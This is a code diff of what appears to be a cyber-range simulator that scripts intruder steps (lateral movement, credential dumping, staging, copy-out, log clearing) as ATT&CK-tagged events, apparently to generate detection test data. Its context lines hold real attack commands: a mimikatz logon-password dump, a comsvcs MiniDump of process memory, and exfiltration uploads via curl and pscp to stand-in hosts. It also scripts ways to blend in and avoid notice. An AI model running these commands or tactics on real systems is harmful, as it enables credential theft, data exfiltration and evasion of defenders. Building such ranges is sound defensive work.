@@ -7,13 +7,13 @@ network, to agreed systems; 3 also with that person's own tool, host and pace.
 from __future__ import annotations
 
 from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 
 from countersign.range.estate import Account, Estate, Host, Person, Provider, sid_of
 from countersign.range.plan.commands import S32
 from countersign.range.plan.deeds import Deeds
 from countersign.range.plan.scene import Desktop, Foothold, Tunnel
-from countersign.range.plan.visits import tool_for
+from countersign.range.plan.visits import tool_for, work
 from countersign.range.streams.base import SITES
 from countersign.range.truth import TrueHop
 
@@ -78,6 +78,20 @@ class Player:
             own = [i for i in self.person.hosts if hosts[i].linux == (role == "linux")]
             members = own or members
         return hosts[rng.choice(members or self.estate.by_role["app"])]
+
+    def in_character(self, host: Host, technique: str, name: str) -> bool:
+        """At the highest care the person's own tool is taken, whatever the scenario says; whether that was done."""
+        if self.care < IN_CHARACTER:
+            return False
+        first = len(self.acts.visit.hops)
+        acting = replace(self.person, account=self.who)
+        work(self.acts, self.at.inside, host, acting, tool_for(self.acts.rng, self.person), patching=False)
+        for hop in self.acts.visit.hops[first:]:
+            hop.switch = self.switched
+            self.acts.deed(hop, host.name, "logon", "by the person's own tool", technique, name)
+        self.acts.done()
+        self.pause()
+        return True
 
 
 Do = Callable[[Player, dict[str, object]], None]
@@ -177,11 +191,14 @@ def _command(p: Player, noisy: str, quiet: str) -> str:
 
 @step("psexec", "T1569.002 T1021.002", "to command")
 def _psexec(p: Player, options: dict[str, object]) -> None:
+    host = _on(p, options.get("to"), "file")
+    if p.in_character(host, "T1569.002", "psexec"):
+        return
     command = str(options.get("command") or _command(p, rf"{S32}\cmd.exe /c whoami", rf"{S32}\hostname.exe"))
     service = "BTOBTO" if p.care == NOISY else "PSEXESVC"
     p.acts.psexec(
         p.at.inside,
-        _on(p, options.get("to"), "file"),
+        host,
         p.who,
         [command],
         service=service,
@@ -194,10 +211,13 @@ def _psexec(p: Player, options: dict[str, object]) -> None:
 
 @step("wmi", "T1047", "to command")
 def _wmi(p: Player, options: dict[str, object]) -> None:
+    host = _on(p, options.get("to"), "app")
+    if p.in_character(host, "T1047", "wmi"):
+        return
     command = str(options.get("command") or rf"{S32}\tasklist.exe /svc")
     p.acts.wmi(
         p.at.inside,
-        _on(p, options.get("to"), "app"),
+        host,
         p.who,
         [command],
         switch=p.switched,
@@ -209,8 +229,11 @@ def _wmi(p: Player, options: dict[str, object]) -> None:
 
 @step("winrm", "T1021.006", "to")
 def _winrm(p: Player, options: dict[str, object]) -> None:
+    host = _on(p, options.get("to"), "app")
+    if p.in_character(host, "T1021.006", "winrm"):
+        return
     commands = [rf"{S32}\whoami.exe /groups", rf"{S32}\NETSTAT.EXE -ano"]
-    p.acts.winrm(p.at.inside, _on(p, options.get("to"), "app"), p.who, commands, switch=p.switched)
+    p.acts.winrm(p.at.inside, host, p.who, commands, switch=p.switched)
     p.pause()
 
 
@@ -228,13 +251,16 @@ def _ssh(p: Player, _: dict[str, object]) -> None:
 
 @step("schedule_task", "T1053.005", "to")
 def _task(p: Player, options: dict[str, object]) -> None:
+    host = _on(p, options.get("to"), "app")
+    if p.in_character(host, "T1053.005", "schedule_task"):
+        return
     task, command = (
         _command(p, "SystemHealthMon", "maintenance-7"),
         _command(p, r"C:\PerfLogs\p.exe", rf"{S32}\gpupdate.exe /force"),
     )
     p.acts.task(
         p.at.inside,
-        _on(p, options.get("to"), "app"),
+        host,
         p.who,
         task,
         command,
@@ -247,13 +273,16 @@ def _task(p: Player, options: dict[str, object]) -> None:
 
 @step("create_service", "T1543.003 T1021.002", "to")
 def _service(p: Player, options: dict[str, object]) -> None:
+    host = _on(p, options.get("to"), "app")
+    if p.in_character(host, "T1543.003", "create_service"):
+        return
     service, path = (
         _command(p, "WinUpdSvc", "Updater4"),
         _command(p, r"C:\PerfLogs\svc.exe", r"C:\Install\updater.exe"),
     )
     p.acts.service(
         p.at.inside,
-        _on(p, options.get("to"), "app"),
+        host,
         p.who,
         service,
         path,
@@ -267,6 +296,8 @@ def _service(p: Player, options: dict[str, object]) -> None:
 @step("map_admin_share", "T1021.002", "to")
 def _map(p: Player, options: dict[str, object]) -> None:
     paths = [("Shares", False), (r"Shares\Finance", False), (r"Shares\Research", False)]
+    if p.care >= IN_CHARACTER:
+        paths = [(f"updates\\package-{number}.msi", False) for number in range(4)]
     p.acts.smb(
         p.at.inside,
         _on(p, options.get("to"), "file"),
@@ -283,8 +314,6 @@ def _map(p: Player, options: dict[str, object]) -> None:
 @step("work_as_usual", "T1078.002")
 def _usual(p: Player, _: dict[str, object]) -> None:
     """What the person does anyway, to go under in it."""
-    from countersign.range.plan.visits import work
-
     host = p.estate.hosts[p.person.hosts[0]]
     work(p.acts, p.at.inside, host, p.person, tool_for(p.acts.rng, p.person), patching=False)
     p.pause()
@@ -309,8 +338,22 @@ def _look(p: Player, _: dict[str, object]) -> None:
         p.acts.run(p.at, command, technique=technique, name="look_around")
 
 
-@step("dump_credentials", "T1003.001")
+@step("dump_credentials", "T1003.001 T1552.001")
 def _dump(p: Player, _: dict[str, object]) -> None:
+    if p.care >= AGREED:
+        # a password in a script on a share, which leaves no more than the script's reading
+        host, paths = p.host("file"), [("scripts\\check-4.ps1", False), ("scripts\\check-12.ps1", False)]
+        p.acts.smb(
+            p.at.inside,
+            host,
+            p.person.account,
+            "Install",
+            paths,
+            technique="T1552.001",
+            name="dump_credentials",
+        )
+        p.pause(60, 400)
+        return
     quiet = rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full"
     command = _command(p, r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", quiet)
     p.acts.dump(
@@ -371,6 +414,15 @@ def _account(p: Player, options: dict[str, object]) -> None:
 @step("stage_archive", "T1560.001 T1074.001")
 def _stage(p: Player, _: dict[str, object]) -> None:
     stage = STAGE[p.care]
+    if p.care >= IN_CHARACTER:
+        p.acts.deed(
+            p.at.hop, p.at.host.name, "file", "a folder compressed in Explorer", "T1560", "stage_archive"
+        )
+        p.acts.created(
+            p.at.host, p.who, r"C:\Windows\explorer.exe", p.at.inside.shell, rf"{stage}\logs-7.zip", p.at.hop
+        )
+        p.acts.done()
+        return
     quiet = rf"C:\Program Files\7-Zip\7z.exe a -p {stage}\logs.7z C:\Logs"
     command = _command(p, rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users", quiet)
     number = p.acts.run(p.at, command, technique="T1560.001", name="stage_archive")
@@ -383,6 +435,19 @@ def _stage(p: Player, _: dict[str, object]) -> None:
 @step("copy_out", "T1048.002 T1567", "megabytes")
 def _copy(p: Player, options: dict[str, object]) -> None:
     size = int(str(options.get("megabytes", 800))) * 1_000_000
+    if p.care >= IN_CHARACTER:
+        # through the desktop's own connection, as files are fetched over a redirected drive
+        p.acts.deed(
+            p.at.hop,
+            p.at.host.name,
+            "network",
+            f"{size} bytes over the remote desktop",
+            "T1048.002",
+            "copy_out",
+        )
+        p.acts.done()
+        p.acts.wait(600, 2400)
+        return
     quiet = rf"{S32}\curl.exe -T C:\Temp\logs.7z https://support.vendor.example/upload"
     command = _command(
         p, rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/", quiet
@@ -402,6 +467,8 @@ def _beacon(p: Player, options: dict[str, object]) -> None:
 
 @step("clear_log", "T1070.001")
 def _clear(p: Player, _: dict[str, object]) -> None:
+    if p.care >= AGREED:
+        return  # a cleared log is what would be looked at
     p.acts.clear_log(
         p.at.host, p.at.account, p.at.tokens[0], p.at.hop, technique="T1070.001", name="clear_log"
     )
